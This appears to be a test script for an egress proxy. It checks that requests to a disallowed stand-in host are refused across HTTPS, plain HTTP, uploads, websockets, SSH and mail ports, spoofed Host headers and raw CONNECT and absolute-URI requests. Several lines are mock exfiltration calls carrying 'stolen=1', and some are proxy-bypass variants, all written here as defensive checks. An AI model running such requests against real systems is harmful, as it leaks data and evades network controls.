# A host name that is not allowed, through the proxy in every form of request.
need curl python3
control proxy "answered 200" "$(fetch http://_egress.local/allowlist)"
attack https "refused no-route" "$(fetch https://not-allowed.attack.invalid/?stolen=1)"
attack plain "refused no-route" "$(fetch http://not-allowed.attack.invalid/?stolen=1)"
attack upload "refused no-route" "$(fetch -d stolen=1 https://not-allowed.attack.invalid/)"
attack websocket "refused no-route" "$(fetch -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' https://not-allowed.attack.invalid/)"
attack ssh "refused no-route" "$(fetch -p http://not-allowed.attack.invalid:22/)"
attack mail "refused no-route" "$(fetch -p http://not-allowed.attack.invalid:25/)"
attack spoofed-host "refused no-route|refused malformed|refused authority-mismatch" "$(fetch -H 'Host: _egress.local' http://not-allowed.attack.invalid/)"
python <<'PY'
for name, line in {
    "connect": "CONNECT not-allowed.attack.invalid:443 HTTP/1.1\r\nHost: _egress.local\r\n\r\n",
    "http-1.0": "CONNECT not-allowed.attack.invalid:443 HTTP/1.0\r\n\r\n",
    "absolute": "GET http://not-allowed.attack.invalid/ HTTP/1.1\r\nHost: _egress.local\r\n\r\n",
    "absolute-https": "GET https://not-allowed.attack.invalid/ HTTP/1.1\r\nHost: not-allowed.attack.invalid\r\n\r\n",
    "ftp": "GET ftp://not-allowed.attack.invalid/ HTTP/1.1\r\nHost: not-allowed.attack.invalid\r\n\r\n",
}.items():
    attack(name, "refused no-route|refused malformed|refused authority-mismatch|refused port", outcome(raw(line.encode())))
PY
